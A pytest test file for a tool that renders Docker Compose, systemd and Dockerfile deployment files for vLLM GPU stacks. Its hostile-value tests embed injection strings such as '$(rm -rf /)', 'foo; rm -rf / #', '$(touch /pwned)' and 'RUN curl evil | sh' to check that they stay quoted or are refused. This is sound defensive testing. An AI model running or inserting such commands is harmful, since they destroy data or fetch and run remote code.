"""Container deployment files as rendered text: compose, the systemd unit, the Dockerfile.

No container engine runs here, so what is tested is the rendering: each file parses
with the parser its consumer uses (YAML, the unit-file format, systemd-analyze and
docker-compose where installed), carries the stack's choices, and keeps hostile
values inside their quotes.
"""

from __future__ import annotations

import configparser
import json
import os
import re
import shlex
import shutil
import subprocess
from dataclasses import replace

import pytest
import yaml
from packaging.version import Version

from fleetctl.container import CUDA_IMAGES, render_container
from fleetctl.errors import FleetError
from fleetctl.facts import Facts, Gpu
from fleetctl.matrix import load_matrix
from fleetctl.resolve import Request, Stack, resolve
from tests.conftest import exec_words

H100 = Stack(python="3.12", torch="2.14.0", cuda="13.0", torch_index=None, vllm="0.33.0", vllm_package="vllm",
             flashinfer="0.7.2.post1", flashinfer_index=None, container_image="vllm/vllm-openai:v0.33.0",
             attention_backend="FLASH_ATTN", cudagraph_mode="FULL_AND_PIECEWISE", torch_cuda_arch_list="9.0")
# No vllm-openai image carries 0.7.3 with sm_70 in the matrix: a V100 builds its own.
V100 = Stack(python="3.12", torch="2.5.1", cuda="12.1", torch_index="https://download.pytorch.org/whl/cu121",
             vllm="0.7.3", vllm_package="vllm", flashinfer=None, flashinfer_index=None, container_image=None,
             attention_backend="XFORMERS", cudagraph_mode=None, torch_cuda_arch_list="7.0")
B200 = Stack(python="3.12", torch="2.14.0", cuda="13.0", torch_index=None, vllm="0.33.0", vllm_package="vllm",
             flashinfer="0.7.2.post1", flashinfer_index="https://flashinfer.ai/whl/cu130",
             container_image="vllm/vllm-openai:v0.33.0", attention_backend="FLASHINFER",
             cudagraph_mode="FULL_AND_PIECEWISE", torch_cuda_arch_list="10.0",
             env={"VLLM_USE_FLASHINFER_SAMPLER": "0"}, packages=("flashinfer-jit-cache==0.7.2.post1",))

MODEL = "/srv/models/Qwen3-8B"
HOSTILE_MODEL = "/srv/models/it's a \"model\" $(rm -rf /) ${HOME} 100%h \\x"
HOSTILE_VALUE = "$(rm -rf /); `reboot` ${HOME} 'q' \"dq\" 100%n \\ end\nsecond line"


def render(stack: Stack = H100, **kwargs) -> dict[str, str]:
    options = {"host": "gpu-01", "backend_option": "flag", "model": MODEL, "gpus": 8} | kwargs
    return render_container(stack, **options)


def compose(files: dict[str, str]) -> dict:
    return yaml.safe_load(files["compose.yaml"])["services"]["vllm"]


def unit(files: dict[str, str]) -> configparser.ConfigParser:
    parser = configparser.ConfigParser(strict=False, interpolation=None)
    parser.optionxform = str  # unit keys are case-sensitive
    parser.read_string(files["fleetctl-vllm.service"])
    return parser


def uncompose(value: str) -> str:
    """What compose makes of a string from the file: $$ is its literal $."""
    return value.replace("$$", "$")


# ---------------------------------------------------------------- compose.yaml

def test_compose_runs_the_image_on_the_gpus_with_the_backend_flag():
    service = compose(render(gpus=4))
    assert service["image"] == "vllm/vllm-openai:v0.33.0" and "build" not in service
    assert service["deploy"]["resources"]["reservations"]["devices"] == [
        {"driver": "nvidia", "count": 4, "capabilities": ["gpu"]}]
    assert service["ipc"] == "host" and service["restart"] == "unless-stopped"
    assert service["ports"] == ["8000:8000"]
    assert service["volumes"] == [{"type": "bind", "source": MODEL, "target": "/model", "read_only": True}]
    command = service["command"]
    assert command[:6] == ["--model", "/model", "--served-model-name", "Qwen3-8B", "--port", "8000"]
    assert command[command.index("--attention-backend") + 1] == "FLASH_ATTN"
    assert json.loads(command[command.index("--compilation-config") + 1]) == {"cudagraph_mode": "FULL_AND_PIECEWISE"}
    assert service["environment"] == {"TORCH_CUDA_ARCH_LIST": "9.0", "HF_HUB_OFFLINE": "1"}
    assert service["healthcheck"]["test"] == ["CMD", "curl", "-fsS", "http://localhost:8000/health"]
    assert service["labels"] == {"fleetctl.host": "gpu-01", "fleetctl.stack": H100.id}


def test_compose_passes_the_backend_by_env_for_old_vllm_and_builds_its_image():
    service = compose(render(V100, backend_option="env", gpus=2, port=8080, build=True))
    assert service["environment"]["VLLM_ATTENTION_BACKEND"] == "XFORMERS"
    assert "--attention-backend" not in service["command"]
    assert "--compilation-config" not in service["command"]  # 0.7.3 has no cudagraph_mode: vLLM's default
    assert service["image"] == f"fleetctl/vllm:{V100.id}"
    assert service["build"] == {"context": ".", "dockerfile": "Dockerfile"}
    assert service["ports"] == ["8080:8080"] and "--port" in service["command"]
    assert service["healthcheck"]["test"][-1] == "http://localhost:8080/health"


def test_environment_stack_env_then_extra_env_and_the_hub_stays_off():
    env = compose(render(B200, extra_env={"VLLM_USE_FLASHINFER_SAMPLER": "1", "NCCL_DEBUG": "WARN",
                                          "HF_HUB_OFFLINE": "0"}))["environment"]
    assert env == {"TORCH_CUDA_ARCH_LIST": "10.0", "VLLM_USE_FLASHINFER_SAMPLER": "1", "NCCL_DEBUG": "WARN",
                   "HF_HUB_OFFLINE": "1"}
    assert "VLLM_ATTENTION_BACKEND" not in env  # flag-style vLLM: the env var is gone from 0.15.1


@pytest.mark.skipif(not shutil.which("docker-compose"), reason="docker-compose (v1, apt's) is not installed")
def test_docker_compose_accepts_the_file_and_interpolates_nothing(tmp_path):
    (tmp_path / "compose.yaml").write_text(render(extra_env={"HOSTILE": HOSTILE_VALUE})["compose.yaml"])
    done = subprocess.run(["docker-compose", "-f", "compose.yaml", "config"], cwd=tmp_path, capture_output=True,
                          text=True, env={"PATH": "/usr/bin:/bin", "HOME": "/interpolated-home"})
    assert done.returncode == 0, done.stderr
    assert "/interpolated-home" not in done.stdout  # ${HOME} stayed text
    # compose prints a literal $ as $$ again, as it reads it
    assert uncompose(yaml.safe_load(done.stdout)["services"]["vllm"]["environment"]["HOSTILE"]) == HOSTILE_VALUE


# ---------------------------------------------------------------- the systemd unit

def test_unit_runs_the_same_container_under_docker():
    files = render(gpus=2)
    parsed = unit(files)
    assert parsed["Unit"]["After"] == "docker.service" and parsed["Unit"]["Requires"] == "docker.service"
    service = parsed["Service"]
    assert service["Restart"] == "on-failure" and service["ExecStop"] == "docker stop fleetctl-vllm"
    words = exec_words(service["ExecStart"])
    assert words[:6] == ["docker", "run", "--rm", "--name", "fleetctl-vllm", "--ipc=host"]
    assert words[words.index("--gpus") + 1] == "2"  # the same GPUs compose reserves
    assert "-e" in words and "HF_HUB_OFFLINE=1" in words and f"{MODEL}:/model:ro" in words
    image_at = words.index("vllm/vllm-openai:v0.33.0")
    assert words[image_at + 1:] == compose(files)["command"]
    assert parsed["Install"]["WantedBy"] == "multi-user.target"


def test_unit_under_podman_uses_cdi_devices_and_no_docker_service():
    parsed = unit(render(runtime="podman", gpus=2))
    assert "Requires" not in parsed["Unit"]
    words = exec_words(parsed["Service"]["ExecStart"])
    assert words[0] == "podman" and "--gpus" not in words
    assert [words[i + 1] for i, w in enumerate(words) if w == "--device"] == ["nvidia.com/gpu=0", "nvidia.com/gpu=1"]
    assert parsed["Service"]["ExecStop"] == "podman stop fleetctl-vllm"


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze is not installed")
@pytest.mark.parametrize("runtime", ["docker", "podman"])
@pytest.mark.parametrize("model, extra_env", [(MODEL, {}), (HOSTILE_MODEL, {"HOSTILE": HOSTILE_VALUE})],
                         ids=["plain", "hostile"])
def test_systemd_analyze_verify_accepts_the_unit(tmp_path, runtime, model, extra_env):
    text = render(runtime=runtime, model=model, extra_env=extra_env)["fleetctl-vllm.service"]
    # verify also checks that each Exec binary exists; docker and podman need not be here, so a copy
    # runs /bin/true in their place and everything else is checked as written.
    text, swapped = re.subn(rf"^(Exec\w+=-?){runtime} ", r"\1/bin/true ", text, flags=re.M)
    assert swapped == 3
    path = tmp_path / "fleetctl-vllm.service"
    path.write_text(text)
    # verify loads what the unit Requires=; where Docker is not installed a stand-in docker.service,
    # first on the unit path, is what it finds.
    (tmp_path / "docker.service").write_text("[Service]\nExecStart=/bin/true\n")
    done = subprocess.run(["systemd-analyze", "verify", "--man=no", "--generators=no", str(path)],
                          capture_output=True, text=True, env={**os.environ, "SYSTEMD_UNIT_PATH": f"{tmp_path}:"})
    assert done.returncode == 0, done.stderr
    assert not re.search(r"\.service:\d+:", done.stderr), done.stderr  # warnings (bad escapes) name a line


# ---------------------------------------------------------------- the Dockerfile

def installs(dockerfile: str) -> list[list[str]]:
    """The words of each uv command on a RUN line, as the shell splits them."""
    joined = dockerfile.replace("\\\n", " ")
    runs = [shlex.split(line.removeprefix("RUN --mount=type=cache,target=/root/.cache/uv").removeprefix("RUN "))
            for line in joined.splitlines() if line.startswith("RUN ")]
    return [words for words in runs if words[0] == "uv"]


def test_dockerfile_for_the_h100_stack():
    dockerfile = render(build=True)["Dockerfile"]
    assert re.findall(r"^FROM .*", dockerfile, flags=re.M) == [
        "FROM nvidia/cuda:13.0.2-devel-ubuntu22.04 AS build", "FROM nvidia/cuda:13.0.2-devel-ubuntu22.04"]
    assert 'ENV TORCH_CUDA_ARCH_LIST="9.0"' in dockerfile
    venv, torch, vllm = installs(dockerfile)
    assert venv == ["uv", "venv", "--python", "3.12", "/opt/venv"]
    assert torch == ["uv", "pip", "install", "torch==2.14.0"]  # the default index: no --extra-index-url
    assert vllm == ["uv", "pip", "install", "vllm==0.33.0", "flashinfer-python==0.7.2.post1"]
    assert "python3 -m pip install --no-cache-dir uv" in dockerfile
    assert 'ENTRYPOINT ["python", "-m", "vllm.entrypoints.openai.api_server"]' in dockerfile
    assert "COPY --from=build /opt/venv /opt/venv" in dockerfile


def test_dockerfile_for_the_v100_stack_pins_torch_from_its_index():
    dockerfile = render(V100, backend_option="env", build=True)["Dockerfile"]
    assert "FROM nvidia/cuda:12.1.1-devel-ubuntu22.04 AS build" in dockerfile
    assert 'ENV TORCH_CUDA_ARCH_LIST="7.0"' in dockerfile
    assert "UV_INDEX_STRATEGY=unsafe-best-match" in dockerfile  # torchvision +cu121 from that index too
    torch, vllm = installs(dockerfile)[-2:]
    assert torch[-3:] == ["torch==2.5.1", "--extra-index-url", "https://download.pytorch.org/whl/cu121"]
    assert "vllm==0.7.3" in vllm and not any(w.startswith("flashinfer") for w in vllm)


def test_dockerfile_installs_the_stacks_extra_packages_from_their_index():
    vllm = installs(render(B200, build=True)["Dockerfile"])[-1]
    assert "flashinfer-jit-cache==0.7.2.post1" in vllm
    assert vllm[vllm.index("--extra-index-url") + 1] == "https://flashinfer.ai/whl/cu130"


@pytest.mark.parametrize("cuda, tag", sorted(CUDA_IMAGES.items()))
def test_base_image_follows_the_stacks_cuda(cuda, tag):
    dockerfile = render(replace(V100, cuda=cuda), build=True)["Dockerfile"]
    assert f"FROM nvidia/cuda:{tag}-devel-ubuntu22.04 AS build" in dockerfile


def test_every_cuda_a_stack_can_carry_has_a_base_image():
    matrix = load_matrix()
    cudas = {v.cuda for v in matrix.vllm} | {c.cuda for c in matrix.containers}
    cudas |= {v.cuda for t in matrix.torch for v in (*t.variants, *t.aarch64) if Version(v.cuda).major >= 12}
    assert cudas <= set(CUDA_IMAGES)


def test_a_cuda_without_a_base_image_is_refused():
    with pytest.raises(FleetError, match="no nvidia/cuda base image is known for CUDA 11.8"):
        render(replace(V100, cuda="11.8"), build=True)


# ---------------------------------------------------------------- hostile values

def test_hostile_values_stay_one_word_in_every_file():
    files = render(host="gpu-01\nevil: true", model=HOSTILE_MODEL, extra_env={"HOSTILE": HOSTILE_VALUE})
    service = compose(files)
    assert set(service) >= {"image", "environment"} and "evil" not in service
    assert service["environment"]["HOSTILE"] == HOSTILE_VALUE.replace("$", "$$")  # compose's literal $
    assert uncompose(service["volumes"][0]["source"]) == HOSTILE_MODEL
    assert uncompose(service["labels"]["fleetctl.host"]) == "gpu-01\nevil: true"
    served = service["command"][service["command"].index("--served-model-name") + 1]
    assert uncompose(served) == ") ${HOME} 100%h \\x"  # the last component of the path
    words = exec_words(unit(files)["Service"]["ExecStart"])
    assert f"HOSTILE={HOSTILE_VALUE}" in words and f"{HOSTILE_MODEL}:/model:ro" in words
    assert "fleetctl.host=gpu-01\nevil: true" in words
    assert words[-len(service["command"]):] == [uncompose(arg) for arg in service["command"]]


def test_hostile_stack_values_are_shell_quoted_in_the_dockerfile():
    stack = replace(B200, torch_index="https://example.invalid/whl/$(touch /pwned)'x'",
                    packages=("foo; rm -rf / #",))
    vllm = installs(render(stack, build=True)["Dockerfile"])[-1]
    assert "foo; rm -rf / #" in vllm
    assert vllm[vllm.index("--extra-index-url") + 1] == "https://example.invalid/whl/$(touch /pwned)'x'"
    with pytest.raises(ValueError, match="control character"):  # a newline would start a new instruction
        render(replace(B200, packages=("foo\nRUN curl evil | sh",)), build=True)


@pytest.mark.parametrize("kwargs, message", [
    ({"backend_option": "both"}, "backend_option 'both'"),
    ({"runtime": "lxc"}, "runtime 'lxc'"),
    ({"gpus": 0}, "gpus 0"),
    ({"gpus": True}, "gpus True"),
    ({"port": 70000}, "port 70000"),
    ({"model": "models/qwen"}, "not an absolute path"),  # docker -v would make it a named volume
    ({"model": "/srv/a:b"}, "without ':'"),
    ({"extra_env": {"BAD NAME": "x"}}, "not identifiers"),
    ({"stack": replace(H100, container_image=None)}, "names no container image"),
    ({"stack": replace(H100, torch_cuda_arch_list="9.0\nRUN x")}, "torch_cuda_arch_list"),
])
def test_bad_arguments_are_refused(kwargs, message):
    stack = kwargs.pop("stack", H100)
    with pytest.raises(ValueError, match=re.escape(message)):
        render(stack, **kwargs)


# ---------------------------------------------------------------- from the resolver

def test_a_resolved_container_stack_renders():
    facts = Facts(gpus=tuple(Gpu(i, "NVIDIA H100 80GB HBM3", f"GPU-{i}", "9.0", 81559, None) for i in range(8)),
                  driver_version="580.65.06", cuda_driver_version="13.0", arch="x86_64", glibc="2.39",
                  python={"path": "/usr/bin/python3", "version": "3.12.3"},
                  container_runtime={"name": "docker", "nvidia_runtime": True})
    matrix = load_matrix()
    resolution = resolve(facts, Request(mode="container"), matrix)
    assert resolution.ok, resolution.reasons
    stack = resolution.stack
    option = next(v.backend_option for v in matrix.vllm if v.version == stack.vllm)
    service = compose(render(stack, backend_option=option))
    assert service["image"] == stack.container_image
    assert service["command"][service["command"].index("--attention-backend") + 1] == stack.attention_backend
